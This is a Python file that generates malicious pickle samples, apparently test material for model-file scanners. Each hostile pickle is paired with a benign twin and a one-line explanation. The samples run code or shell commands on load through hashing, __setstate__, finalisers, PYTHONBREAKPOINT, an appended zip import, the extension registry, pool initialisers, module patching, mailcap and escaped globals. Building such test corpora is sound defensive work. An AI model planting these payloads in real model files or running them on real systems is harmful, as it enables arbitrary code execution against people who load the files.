"""Pickles that run their payload through the machinery around a call: hashing, state, hooks, pools, import paths."""
from __future__ import annotations

import collections
import datetime
import decimal
import fractions
import io
import pathlib
import pickle as std
import uuid
import zipfile

from assembly import Raw, build, call, dot, glob, model, new, pickle, seq, tup, val
from pair import CODE, SHELL

FAMILY = "pickle"


def exec_partial() -> Raw:
    """`functools.partial(exec, CODE, {})`, which is data until something calls it."""
    return call(glob("functools", "partial"), glob("builtins", "exec"), CODE, {})


def shell_partial() -> Raw:
    return call(glob("functools", "partial"), glob("posix", "system"), SHELL)


def cls(name: str, **members) -> Raw:
    """A class made on the spot by `type(name, (), members)`."""
    return call(glob("builtins", "type"), name, tup(), {k: v for k, v in members.items()})


def plain(extra) -> bytes:
    return std.dumps({"epoch": 3, "weights": [0.5, -1.25, 2.0, 0.125], "extra": extra, "name": "classifier"}, 4)


def self_import() -> bytes:
    """A pickle with a zip behind it that puts itself on the import path and imports from there."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("layer_utils.py", CODE + "\nscale = 1.0\n")
    body = seq(Raw(glob("sys", "path") + val("model.pkl") + b"a"), glob("layer_utils", "scale"))
    return pickle(model(body)) + archive.getvalue()


def add(out):
    def one(name, hostile, twin, why, file="model.pkl", prove="pickle"):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    # The instance is used as a key, so `hash()` calls the class's `__hash__`, a partial of exec.
    key = call(cls("Token", __hash__=exec_partial()))
    one(
        "key_whose_hash_runs",
        pickle(model(Raw(b"}" + key + val(1) + b"s"))),
        plain({uuid.UUID(int=7): 1, datetime.date(2026, 9, 1): 2, (1, 2): 3}),
        "Unpickling hashes a dictionary key whose class runs code when hashed.",
    )
    # BUILD hands the state string to `__setstate__`, which is exec itself.
    one(
        "state_given_to_exec",
        pickle(model(build(call(cls("Config", __setstate__=glob("builtins", "exec"))), CODE))),
        plain(decimal.Decimal("0.001")),
        "BUILD passes a string to a __setstate__ that is exec.",
    )
    # The instance is thrown away at once; its `__del__` is a partial of os.system.
    one(
        "finaliser_of_a_dropped_object",
        pickle(model(seq(call(cls("Cache", __del__=shell_partial())), 0.5))),
        plain(fractions.Fraction(1, 3)),
        "An object that is dropped during loading runs a shell command when it is collected.",
    )
    # Annotations in text are evaluated by typing.get_type_hints.
    hints = call(glob("typing", "get_type_hints"), build(new(glob("types", "SimpleNamespace")), {"__annotations__": {"x": CODE}}))
    one(
        "annotations_evaluated",
        pickle(model(hints)),
        plain({"__annotations__": {"x": "float", "y": "list[int]"}}),
        "typing.get_type_hints evaluates the annotation text, which is a program.",
    )
    # The debugger hook is chosen through the environment, then called with the command.
    environ = Raw(glob("os", "environ") + val("PYTHONBREAKPOINT") + val("os.system") + b"s")
    one(
        "debugger_hook_from_environment",
        pickle(model(seq(environ, call(glob("builtins", "breakpoint"), SHELL)))),
        plain({"PYTHONHASHSEED": "0", "OMP_NUM_THREADS": "4"}),
        "Sets PYTHONBREAKPOINT to os.system and calls breakpoint() with a shell command.",
    )
    one(
        "imports_from_its_own_tail",
        self_import(),
        plain({"labels": ["cat", "dog"]}) + std.dumps(["cat", "dog"], 4),
        "Appends its own file name to sys.path and imports a module from the zip behind the pickle.",
    )
    # The extension registry is a plain dict; no add_extension call is needed.
    registry = Raw(glob("copyreg", "_inverted_registry") + val(217) + tup("posix", "system") + b"s")
    one(
        "extension_registry_by_item",
        pickle(model(seq(registry, Raw(b"\x82\xd9" + tup(SHELL) + b"R")))),
        plain({217: ("model", "layer")}),
        "Writes os.system into the extension registry by SETITEM and calls it through EXT1.",
    )
    pool = call(glob("multiprocessing.pool", "ThreadPool"), 1, glob("builtins", "exec"), tup(CODE, {}))
    one(
        "pool_initialiser",
        pickle(model(seq(pool, 1))),
        plain({"pool": "ThreadPool", "workers": 1, "initargs": ("seed", 7)}),
        "The constructor of a thread pool runs its initialiser, which is exec.",
    )
    # BUILD on a module object writes into it; Python calls threading._shutdown as it ends.
    one(
        "module_patched_by_build",
        pickle(model(build(glob("logging", "threading"), {"_shutdown": shell_partial()}))),
        plain(collections.OrderedDict(_shutdown=None, retries=3)),
        "BUILD writes a command into the threading module, run when the interpreter ends.",
    )
    caps = {"text/plain": [{"view": "cat %s", "test": SHELL}]}
    one(
        "mailcap_test_command",
        pickle(model(call(glob("mailcap", "findmatch"), caps, "text/plain"))),
        plain({"text/plain": [{"view": "cat %s", "test": "test -n x"}]}),
        "mailcap.findmatch runs the test field of its table in a shell.",
    )
    # Protocol 0 text with escapes: module and name are nowhere in the file as they are read.
    escape = lambda s: b"V" + b"".join(b"\\u%04x" % ord(c) for c in s) + b"\n"  # noqa: E731
    one(
        "global_named_in_escapes",
        pickle(model(Raw(escape("posix") + escape("system") + b"\x93" + tup(SHELL) + b"R"))),
        std.dumps({"word": "\u043c\u043e\u0434\u0435\u043b\u044c", "weights": [0.5, 1.5]}, 0),
        "STACK_GLOBAL takes module and name from strings written in unicode escapes.",
    )
    # `"{loss}".format_map(d)` asks the default dictionary for a missing key: its factory is bound to exec.
    bound = call(glob("types", "MethodType"), glob("builtins", "exec"), CODE)
    factory = call(glob("collections", "defaultdict"), bound)
    one(
        "default_factory_asked_by_format",
        pickle(model(call(dot("builtins", "str", "format_map"), "{loss}", factory))),
        plain(collections.defaultdict(list, loss=[0.5])),
        "Formatting a text asks a defaultdict whose factory runs code.",
    )
    # A slot state sets attributes of a class; the trusted json.loads then calls the new method.
    patch = build(glob("json.decoder", "JSONDecoder"), tup(None, {"decode": glob("posix", "system")}))
    one(
        "class_patched_by_slot_state",
        pickle(model(seq(patch, call(glob("json", "loads"), SHELL)))),
        plain(pathlib.PurePosixPath("checkpoints/json")),
        "A slot state replaces JSONDecoder.decode by os.system, then json.loads is given a command.",
    )
    # APPEND calls the method `append` of whatever is there.
    one(
        "append_calls_a_method",
        pickle(model(Raw(call(cls("History", append=glob("builtins", "exec"))) + val(CODE) + b"a"))),
        plain(collections.deque([0.9, 0.8, 0.7], maxlen=5)),
        "The APPEND opcode calls the append method of an object whose append is exec.",
    )
